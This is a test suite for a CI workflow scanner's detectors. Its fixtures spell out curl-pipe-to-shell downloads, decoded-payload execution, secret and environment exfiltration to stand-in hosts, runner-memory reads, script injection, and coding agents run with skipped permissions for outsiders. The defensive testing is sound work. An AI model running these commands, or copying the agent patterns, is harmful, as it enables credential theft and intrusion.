/** What steps of workflows do, asked of the detectors that ask it of every program: through the readers, as files stand in a commit. */

import unguardedAgentRun from "../../../../src/engine/detectors/autorun/unguarded-agent-run.ts";
import decodedCodeRun from "../../../../src/engine/detectors/content/decoded-code-run.ts";
import fetchedCodeRun from "../../../../src/engine/detectors/content/fetched-code-run.ts";
import processMemoryRead from "../../../../src/engine/detectors/content/process-memory-read.ts";
import secretExfiltration from "../../../../src/engine/detectors/content/secret-exfiltration.ts";
import untrustedInputRun from "../../../../src/engine/detectors/workflows/untrusted-input-run.ts";
import { NPM_HOST } from "../../../../src/engine/model/dependency-examples.ts";
import type { CommitDetector } from "../../../../src/engine/model/detector.ts";
import { strengthsOfPrograms } from "../run-programs.ts";
import {
  ALL_SECRETS,
  expression,
  type JobOptions,
  PATH,
  type StepText,
  secret,
  workflowText,
} from "./workflow-text.ts";

const SHELL = ["ba", "sh"].join("");
const CURL = ["cu", "rl"].join("");
const HOST = "https://quiet.example.net";
const AWAY = "https://a.example.net";
const BLOB = Buffer.from(`${CURL} -s ${AWAY}/x | ${SHELL} # harmless`).toString("base64");
const HEX = Buffer.from(`${CURL} -s ${AWAY}/x | ${SHELL}`).toString("hex");

type Steps = StepText | readonly StepText[];
type Row = [name: string, step: Steps, options?: JobOptions];

async function strengths(detector: CommitDetector, [, step, options]: Row): Promise<readonly string[]> {
  const steps = Array.isArray(step) ? (step as readonly StepText[]) : [step as StepText];
  return [...new Set(await strengthsOfPrograms(detector, { [PATH]: workflowText(steps, options) }))];
}

describe("downloads that are executed", () => {
  test.each<Row>([
    ["a pipe", `${CURL} -fsSL ${HOST}/p.sh | ${SHELL}`],
    ["a pipe with rights and arguments", `${CURL} -fsSL ${HOST}/p.sh | sudo -E ${SHELL} -s -- -y`],
    ["a pipe into another language", `wget -qO- ${HOST}/p.py | python3 -`],
    ["a pipe over a filter", `${CURL} ${HOST}/p | tee p.log | tr a b | sh`],
    ["variables in front of the shell", `${CURL} ${HOST}/p | DIR=/usr/local sh`],
    ["a substituted file", `${SHELL} <(${CURL} -s ${HOST}/p.sh)`],
    ["a sourced file", `source <(${CURL} -s ${HOST}/p.sh)`],
    ["a substituted text", `sh -c "$(${CURL} -fsSL ${HOST}/p.sh)"`],
    ["evaluated text", `eval "$(${CURL} ${HOST}/p)"`],
    ["Python's own text", `python3 -c "$(${CURL} -s ${HOST}/p.py)"`],
    ["Python's own request", `python3 -c "import urllib.request as u; exec(u.urlopen('${HOST}/p').read())"`],
    ["PowerShell's pipe", `iwr -useb ${HOST}/p.ps1 | iex`, { shell: "pwsh" }],
    ["PowerShell's brackets", `iex (irm ${HOST}/p.ps1)`, { shell: "pwsh" }],
    [
      "the shell of a Windows machine",
      `iex ((New-Object System.Net.WebClient).DownloadString('${HOST}/p.ps1'))`,
      { runsOn: "windows-latest" },
    ],
    ["a text that is said to the shell", `echo "$(${CURL} ${HOST}/p)" | sh`],
    ["a text for another machine's shell", `ssh box "${CURL} ${HOST}/p | sh"`],
    ["an address in a variable", `SITE=${HOST}/p\n${CURL} "$SITE" | sh`],
    ["continued lines", `${CURL} -fsSL \\\n  ${HOST}/p.sh \\\n  | ${SHELL}`],
    ["a file made a program", `wget ${HOST}/p.sh\nchmod +x p.sh && ./p.sh`],
    ["a file given to the shell", `${CURL} -o /tmp/p ${HOST}/p\nsudo ${SHELL} /tmp/p`],
    ["a file of the step before", [`${CURL} -sLO ${HOST}/tool`, "chmod +x tool\n./tool --version"]],
  ])("%s", async (...row) => {
    expect(await strengths(fetchedCodeRun, row)).toEqual(["strong"]);
  });

  test.each<[name: string, step: Steps, expected: readonly string[]]>([
    ["a tool that everybody uses", `${CURL} -fsSL https://sh.rustup.rs | sh -s -- -y`, ["weak"]],
    ["an address put together", `${CURL} "$URL" | sh`, ["medium"]],
    ["a page for pastes", `${CURL} -s https://paste.rs/x | sh`, ["decisive"]],
    ["a raw address", `${CURL} -s http://45.9.148.${100 + 8}/x | sh`, ["decisive"]],
    ["a checked download", `${CURL} -LO ${HOST}/tool\nsha256sum --check tool.sha256\n./tool`, ["weak"]],
    ["a signed download", `${CURL} -LO ${HOST}/tool\ngpg --batch --verify tool.sig tool\n./tool`, ["weak"]],
    ["data for another program", `${CURL} -s ${HOST}/x.json | python3 -m json.tool`, []],
    ["data for a program of one line", `${CURL} -s ${HOST}/x | node -e "process.stdin.resume()"`, []],
    ["data for a script of the tree", `${CURL} -s ${HOST}/x | python3 scripts/read.py`, []],
    ["a text that tells people to do so", `echo "run: ${CURL} ${HOST}/p | sh"`, []],
    ["a text of several lines", `cat > notes.md <<END\n${CURL} ${HOST}/p | sh\nEND`, []],
    ["a comment on an issue", `gh pr comment --body '${CURL} ${HOST}/p | sh'`, []],
    ["an archive", `${CURL} -L ${HOST}/x.tgz | tar xz`, []],
    ["a request that waits for a server", `${CURL} -f ${HOST}/health && ${SHELL} ./smoke.sh`, []],
  ])("%s", async (name, step, expected) => {
    expect(await strengths(fetchedCodeRun, [name, step])).toEqual(expected);
  });

  test("what only moved", async () => {
    const line = `${CURL} -fsSL ${HOST}/p.sh | ${SHELL}`;
    const files = { [PATH]: [workflowText([line]), workflowText([`set -e\n${line}`])] as const };
    expect(await strengthsOfPrograms(fetchedCodeRun, files)).toEqual([]);
  });
});

describe("decoded text that is executed", () => {
  test.each<[name: string, run: string, expected: readonly string[], env?: Record<string, string>]>([
    ["piped into a shell", `echo ${BLOB} | base64 -d | ${SHELL}`, ["decisive"]],
    ["evaluated", `eval "$(echo ${BLOB} | base64 --decode)"`, ["decisive"]],
    ["given to a shell", `${SHELL} -c "$(echo ${BLOB} | base64 -d)"`, ["decisive"]],
    ["sourced", `source <(echo ${BLOB} | base64 -d)`, ["decisive"]],
    ["hexadecimal", `echo ${HEX} | xxd -r -p | sh`, ["decisive"]],
    ["written to a file that is run", `echo ${BLOB} | base64 -d > /tmp/a.sh\n${SHELL} /tmp/a.sh`, ["decisive"]],
    ["of the environment", "echo $D | base64 --decode > /tmp/x\nchmod +x /tmp/x\n/tmp/x", ["decisive"], { D: BLOB }],
    ["in another language", `python3 -c "exec(__import__('base64').b64decode('${BLOB}'))"`, ["decisive"]],
    ["PowerShell's own switch", `pwsh -NoProfile -EncodedCommand ${BLOB}`, ["decisive"]],
    ["a computed value", `get-script | base64 -d | sudo ${SHELL}`, ["decisive"]],
    ["a script that is a secret", `echo "${secret("SETUP")}" | base64 -d | ${SHELL}`, ["weak"]],
    ["a key to a file, and a build", `echo "${secret("KEY")}" | base64 -d > key.json\n${SHELL} build.sh`, []],
    ["encoding", "cat build.sh | base64 > build.b64", []],
    ["decoding to look at it", "echo $X | base64 -d | jq .", []],
  ])("%s", async (name, run, expected, env = {}) => {
    expect(await strengths(decodedCodeRun, [name, run, { env }])).toEqual(expected);
  });
});

describe("credentials that leave", () => {
  test.each<[name: string, step: Steps, expected: string, env?: Record<string, string>]>([
    ["a vendor's token elsewhere", `${CURL} -d "x=${secret("NPM_TOKEN")}" ${AWAY}`, "strong"],
    [
      "two vendors' tokens",
      `${CURL} --json '{"a":"${secret("NPM_TOKEN")}","b":"${secret("AWS_SECRET")}"}' ${AWAY}`,
      "decisive",
    ],
    [
      "three secrets of no known house",
      `${CURL} -d "a=${secret("DEPLOY_TOKEN")}&b=${secret("SIGNING_KEY")}&c=${secret("DB_PASSWORD")}" ${AWAY}`,
      "strong",
    ],
    ["one token as the body", `${CURL} -d "token=${secret("DEPLOY_TOKEN")}" ${AWAY}`, "strong"],
    [
      "an identity token",
      `T=$(${CURL} -H "Authorization: bearer $ACTIONS_ID_TOKEN_REQUEST_TOKEN" "$ACTIONS_ID_TOKEN_REQUEST_URL&audience=a")\n${CURL} -d "t=$T" ${AWAY}`,
      "strong",
    ],
    ["a token to a collector", `${CURL} "https://x.webhook.site/?t=${secret("DEPLOY_TOKEN")}"`, "strong"],
    ["all secrets, piped", `echo '${ALL_SECRETS}' | ${CURL} -d @- ${AWAY}`, "decisive"],
    ["the environment to a socket", "env | nc a.example.net 4444", "decisive"],
    ["the environment to a device", "printenv > /dev/tcp/203.0.114.9/443", "decisive"],
    [
      "the environment from Python",
      `python3 - <<'EOF'\nimport os, requests\nrequests.post("${AWAY}", json=dict(os.environ))\nEOF`,
      "decisive",
    ],
    ["a file that an earlier command wrote", `env > /tmp/out\n${CURL} -F f=@/tmp/out ${AWAY}`, "decisive"],
    ["a variable that holds it", `T=${secret("PYPI_API_TOKEN")}\nB="tok=$T"\n${CURL} -d "$B" ${AWAY}`, "strong"],
    ["a name that is looked up", `dig ${secret("NPM_TOKEN")}.a.example.net`, "strong"],
    ["the environment as a name", "nslookup $(printenv | xxd -p | head -c 60).example.net", "decisive"],
    ["printed, encoded", `echo ${secret("NPM_TOKEN")} | base64`, "strong"],
    ["printed letter by letter", `echo ${secret("NPM_TOKEN")} | sed 's/./& /g'`, "strong"],
    ["printed one letter a line", `echo ${secret("NPM_TOKEN")} | fold -w1`, "strong"],
    ["all secrets printed, encoded twice", 'echo "$ALL" | base64 -w 0 | base64 -w 0', "decisive", { ALL: ALL_SECRETS }],
    [
      "pushed to a branch",
      `echo '${ALL_SECRETS}' > s.json\ngit add s.json\ngit commit -m x\ngit push origin HEAD:x`,
      "decisive",
    ],
    ["posted in an issue", `gh issue create --title x --body '${ALL_SECRETS}'`, "decisive"],
    [
      "uploaded by a later step",
      [
        `echo '${ALL_SECRETS}' > dump.json`,
        { uses: "actions/upload-artifact@v4", with: { name: "x", path: "dump.json" } },
      ],
      "decisive",
    ],
    [
      "a script of github-script",
      {
        uses: "actions/github-script@v7",
        with: { script: `await fetch('${AWAY}', { method: 'POST', body: JSON.stringify(process.env) })` },
      },
      "decisive",
    ],
    [
      "the token that checkout left in git's settings, decoded",
      "git config --get http.https://github.com/.extraheader | cut -d' ' -f3 | base64 -d",
      "strong",
    ],
    ["git's settings as a file", `base64 .git/config | ${CURL} -d @- $U`, "decisive"],
  ])("%s", async (name, step, expected, env = {}) => {
    expect(await strengths(secretExfiltration, [name, step, { env }])).toEqual([expected]);
  });

  test.each<Row>([
    [
      "a login at its own vendor",
      `${CURL} -d "username=${secret("DOCKERHUB_USERNAME")}&password=${secret("DOCKERHUB_TOKEN")}" https://hub.docker.com/v2/users/login`,
    ],
    [
      "a token in a header of GitHub's API",
      `${CURL} -H "Authorization: Bearer ${secret("GITHUB_TOKEN")}" https://api.github.com/repos/a/b/dispatches -d '{"event_type":"x"}'`,
    ],
    ["a chat's hook that is a secret", `${CURL} -X POST --data '{"text":"released"}' ${secret("SLACK_WEBHOOK")}`],
    [
      "a bot's message",
      `${CURL} -s "https://api.telegram.org/bot${secret("TELEGRAM_TOKEN")}/sendMessage" -d chat_id=${secret("TELEGRAM_CHAT_ID")} -d text=done`,
    ],
    [
      "a service's own token in a header",
      `${CURL} -H "Authorization: Bearer ${secret("DEPLOY_TOKEN")}" -d ref=main https://deploy.example.org/hook`,
    ],
    ["a deployment hook", `${CURL} -fsS -X POST "https://deploy.example.org/hook?token=${secret("DEPLOY_TOKEN")}"`],
    ["publishing", `npm config set //${NPM_HOST}/:_authToken=${secret("NPM_TOKEN")}\nnpm publish`],
    ["a login by standard input", `echo ${secret("GHCR_TOKEN")} | docker login ghcr.io -u x --password-stdin`],
    ["a key decoded to a file", `echo ${secret("SSH_KEY")} | base64 -d > ~/.ssh/id_rsa\nchmod 600 ~/.ssh/id_rsa`],
    [
      "a header of user and password",
      `AUTH=$(printf '%s' "${secret("JIRA_USER")}:${secret("JIRA_TOKEN")}" | base64)\n${CURL} -H "Authorization: Basic $AUTH" https://jira.example.org/rest/api`,
    ],
    ["showing the environment, which masking sees", "env | sort"],
    ["a service on the machine", `${CURL} -d "password=${secret("AWS_SECRET")}" http://localhost:8080/setup`],
    ["coverage at its vendor", `${CURL} -F "token=${secret("CODECOV_TOKEN")}" -F file=@cov.xml https://codecov.io/up`],
    ["a branch that is pushed", "git add docs\ngit commit -m x\ngit push origin HEAD:pages"],
  ])("passes %s", async (...row) => {
    expect(await strengths(secretExfiltration, row)).toEqual([]);
  });
});

test.each<[run: string, expected: readonly string[]]>([
  [`sudo grep -a 'isSecret":true' /proc/$PID/mem`, ["decisive"]],
  ["sudo cat /proc/$(pgrep -f Runner)/mem | strings", ["decisive"]],
  ["cat /proc/cpuinfo /proc/meminfo", []],
  ["cat /proc/self/maps", []],
])("memory of another process: %s", async (run, expected) => {
  expect(await strengths(processMemoryRead, ["", run])).toEqual(expected);
});

describe("text of outsiders", () => {
  test.each<[name: string, on: string, run: string, expected: readonly string[]]>([
    ["a title in a script", "issues", `echo "${expression("github.event.issue.title")}"`, ["strong"]],
    ["a comment that is the script", "issue_comment", expression("github.event.comment.body"), ["strong"]],
    ["a branch name", "pull_request_target", `git push origin "HEAD:${expression("github.head_ref")}"`, ["strong"]],
    ["a branch name where members push", "push", `git checkout ${expression("github.head_ref")}`, ["weak"]],
    ["a commit message", "push", `echo ${expression("github.event.head_commit.message")}`, ["weak"]],
    ["a number", "issues", expression("github.event.issue.number"), []],
    ["a comparison", "issues", `echo ${expression("github.event.pull_request.head.ref == 'main'")}`, []],
    ["a search", "issues", `echo ${expression("contains(github.event.head_commit.message, 'x')")}`, []],
    [
      "the text behind a comparison",
      "issues",
      `echo ${expression("github.event.issue.title == '' && 'x' || github.event.issue.title")}`,
      ["strong"],
    ],
    ["the repository's name", "issues", expression("github.repository"), []],
  ])("%s", async (name, on, run, expected) => {
    expect(await strengths(untrustedInputRun, [name, run, { on }])).toEqual(expected);
  });

  test("a title that is handed over as a variable", async () => {
    const env = { TITLE: expression("github.event.issue.title") };
    expect(await strengths(untrustedInputRun, ["", 'echo "$TITLE"', { on: "issues", env }])).toEqual([]);
  });
});

describe("coding agents", () => {
  const action = (settings: Record<string, string>) => ({ uses: "anthropics/claude-code-action@v1", with: settings });

  test.each<[name: string, on: string, step: StepText, expected: readonly string[]]>([
    [
      "any tool, for anyone who writes an issue",
      "issues",
      action({ allowed_non_write_users: "*", claude_args: "--dangerously-skip-permissions" }),
      ["strong"],
    ],
    ["chosen tools, for anyone", "issues", action({ allowed_non_write_users: "*" }), ["medium"]],
    ["any tool, on a schedule", "schedule", "gemini --yolo -p 'tidy up'", ["weak"]],
    ["any tool, on comments", "issue_comment", "codex exec --full-auto 'fix it'", ["medium"]],
    ["named users", "issues", action({ allowed_non_write_users: "ada,grace" }), []],
    ["named tools", "issue_comment", action({ claude_args: "--allowedTools Read,Grep" }), []],
    ["an agent that is installed", "issues", "npm install -g @anthropic-ai/claude-code", []],
  ])("%s", async (name, on, step, expected) => {
    expect(await strengths(unguardedAgentRun, [name, step, { on }])).toEqual(expected);
  });
});
